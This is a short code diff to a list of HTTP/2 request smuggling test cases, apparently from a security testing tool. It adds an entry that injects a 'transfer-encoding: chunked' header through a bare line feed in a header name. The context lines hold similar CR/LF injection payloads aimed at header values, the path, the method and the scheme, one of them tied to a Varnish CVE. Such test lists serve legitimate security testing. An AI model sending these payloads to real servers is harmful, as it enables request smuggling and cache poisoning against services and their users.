@@ -136,6 +136,7 @@ ATTACKS = [
     get("K H2.X", "CR alone in a value", (b"foo", b"b\rTransfer-Encoding: chunked")),
     get("RFC 9112 5.2", "a folded value", (b"foo", b"a\r\n b")),
     get("K H2.X", "in a name", (b"foo: b\r\ntransfer-encoding", b"chunked")),
+    get("K H2.X", "LF alone in a name", (b"foo\ntransfer-encoding", b"chunked")),
     get("K H2.X, CVE-2022-45060 varnish", "in the path", path=b"/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\nX: "),
     get("K H2.X", "in the method", method=b"GET / HTTP/1.1\r\nTransfer-Encoding: chunked\r\nX: x"),
     get("K H2.X", "in the scheme", scheme=b"http\r\nTransfer-Encoding: chunked"),
